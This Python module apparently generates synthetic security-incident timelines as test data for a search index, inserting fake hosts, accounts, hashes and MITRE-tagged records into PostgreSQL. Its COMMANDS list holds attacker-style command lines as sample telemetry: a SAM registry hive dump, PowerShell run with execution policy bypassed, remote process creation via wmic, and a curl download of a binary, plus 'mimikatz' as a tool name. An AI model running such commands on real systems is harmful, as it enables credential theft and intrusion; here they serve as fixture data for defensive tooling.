"""Incidents with realistic words for the part of the search: hosts, accounts, addresses, hashes, command lines."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from itertools import islice
from typing import Any

import psycopg2

from bundles.timelines import observables, record_index
from bundles.timelines.reading import ALERT, EVENT, point_of

INCIDENTS = 50
HOSTS, ACCOUNTS, ADDRESSES, HASHES = 40, 60, 200, 2_000  # of an incident
ALERTS_OF_TEN = 2
DIFFERENT = 1_000  # records of an incident; the others are the same at other times
RARE_EVERY = 500  # of these: how often a tool is named
TOOL = "mimikatz"
SHARED_ADDRESS, SHARED_HASH = "203.0.113.66", "5f" * 32  # of every fifth incident
COMMANDS = (
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoProfile -ExecutionPolicy Bypass -File {path}",
    "C:\\Windows\\System32\\cmd.exe /c whoami /all > {path}",
    "C:\\Windows\\System32\\rundll32.exe {path},DllMain",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
    "wmic.exe /node:{host} process call create {path}",
    "reg.exe save HKLM\\SAM {path}",
    "/usr/bin/curl -s -o /tmp/{word} http://{address}/{word}.bin",
    "/usr/sbin/sshd -D -o AuthorizedKeysFile=/home/{account}/.ssh/authorized_keys",
)
_AGAIN = """
INSERT INTO orchestrator_indexed_records (timeline_id, kind, position, at_us, time, phase, severity, rated, what,
    technique, hosts, accounts, source, target, record, terms)
SELECT timeline_id, kind, position + again * %(different)s, at_us + again * 60000000, time, phase, severity, rated,
    what, technique, hosts, accounts, source, target, record, terms
FROM orchestrator_indexed_records CROSS JOIN generate_series(1, %(times)s) AS again
WHERE timeline_id = %(timeline)s AND position + again * %(different)s < %(records)s"""
TITLES = (
    "Process created",
    "Logon failed",
    "Service installed",
    "Share accessed",
    "Network connection",
    "File written",
)
TECHNIQUES = (("T1059.001", "PowerShell"), ("T1003.001", "LSASS Memory"), ("T1021.002", "SMB Shares"), ("", ""))
TACTICS = ("execution", "credential-access", "lateral-movement", "collection", "exfiltration", "impact")
FOLDERS = (
    "C:\\ProgramData\\{word}",
    "C:\\Users\\{account}\\AppData\\Local\\Temp\\{word}",
    "\\\\{host}\\ADMIN$\\{word}",
)
SYLLABLES = (
    "ba",
    "cor",
    "dex",
    "fin",
    "gal",
    "hul",
    "jin",
    "kor",
    "lum",
    "mex",
    "nor",
    "pil",
    "qua",
    "rit",
    "sol",
    "tav",
)
ARTIFACTS = 4_000  # of an incident
BATCH = 5_000


def incident_id(number: int) -> str:
    """The id of one of the incidents."""
    return f"case-{number:04}"


def fill(dsn: str, number: int, records: int) -> None:
    """Copy one incident's records, artifacts and observables into the tables.

    Args:
        dsn: of the database, as libpq reads it.
        number: which incident.
        records: how many events and alerts it has.
    """
    connection = psycopg2.connect(dsn)
    with connection, connection.cursor() as cursor:
        cursor.execute(
            "INSERT INTO orchestrator_timelines (incident_id, origin, sha256, read_at, events, kept, dated, facts)"
            " VALUES (%s, 'bundle', '', now(), %s, %s, %s, '{}') RETURNING id",
            [incident_id(number), records, records, records],
        )
        ((timeline,),) = cursor.fetchall()
        seen: set[str] = set()
        rows = _rows(number, min(records, DIFFERENT), seen)
        while batch := list(islice(rows, BATCH)):
            columns = map(list, zip(*batch, strict=True))
            cursor.execute(record_index._INSERT, [timeline, *columns])  # noqa: SLF001 # as the product does
        values = {"timeline": timeline, "different": DIFFERENT, "times": records // DIFFERENT, "records": records}
        cursor.execute(_AGAIN, values)
        cursor.execute(
            "INSERT INTO orchestrator_observables (value, timeline_id)"
            " SELECT value, %s FROM unnest(%s::text[]) AS value",
            [timeline, sorted(seen)[: observables.MOST]],
        )
    connection.close()


def artifact_names(number: int) -> Iterator[tuple[str, str]]:
    """Artifact id and name of each artifact of an incident."""
    random_of = random.Random(f"artifacts {number}")
    kinds = ("evtx", "dmp", "pf", "lnk", "exe", "dll", "log", "json")
    for at in range(ARTIFACTS):
        name = f"{_word(random_of)}_{_word(random_of)}.{random_of.choice(kinds)}"
        if at % 2_000 == 7:
            name = f"x64_{TOOL.title()}_{at}.exe"
        yield f"a-{at:05}", f"C:%5CUsers%5C{_word(random_of)}%5C{name}"


def _rows(number: int, records: int, seen: set[str]) -> Iterator[record_index.Row]:
    random_of = random.Random(f"records {number}")
    pools = {
        "host": [f"ws-{_word(random_of)}-{at:03}.corp.example" for at in range(HOSTS)],
        "account": [f"{_word(random_of)}.{_word(random_of)}" for _ in range(ACCOUNTS)],
        "address": [f"10.{number}.{random_of.randrange(256)}.{random_of.randrange(256)}" for _ in range(ADDRESSES)],
        "hash": [random_of.randbytes(32).hex() for _ in range(HASHES)],
    }
    if number % 5 == 0:
        pools["address"].append(SHARED_ADDRESS)
        pools["hash"].append(SHARED_HASH)
    for at in range(records):
        kind = ALERT if at % 10 < ALERTS_OF_TEN else EVENT
        record = _record(random_of, pools, at)
        observables.collect(record, seen)
        line = json.dumps(record, separators=(",", ":"), sort_keys=True)
        yield record_index._row(kind, at, point_of(record, line, kind))  # noqa: SLF001 # as the product does


def _record(random_of: random.Random, pools: dict[str, list[str]], at: int) -> dict[str, Any]:
    chosen = {name: random_of.choice(values) for name, values in pools.items()}
    chosen["word"] = TOOL if at % RARE_EVERY == 11 else _word(random_of)
    chosen["path"] = random_of.choice(FOLDERS).format(**chosen) + ".dat"
    identifier, technique = random_of.choice(TECHNIQUES)
    return {
        "timestamp": f"2026-01-{1 + at % 28:02}T{at // 28 % 24:02}:{at // 672 % 60:02}:{at % 60:02}Z",
        "title": random_of.choice(TITLES),
        "severity": random_of.choice(("low", "medium", "high", "critical")),
        "source": chosen["address"],
        "target": chosen["host"],
        "hostname": chosen["host"],
        "username": chosen["account"],
        "process": {
            "command_line": random_of.choice(COMMANDS).format(**chosen),
            "pid": random_of.randrange(65_536),
            "sha256": chosen["hash"],
        },
        "mitre_technique": identifier,
        "metadata": {"tactic": random_of.choice(TACTICS), "technique_name": technique},
    }


def _word(random_of: random.Random) -> str:
    return "".join(random_of.choices(SYLLABLES, k=3))
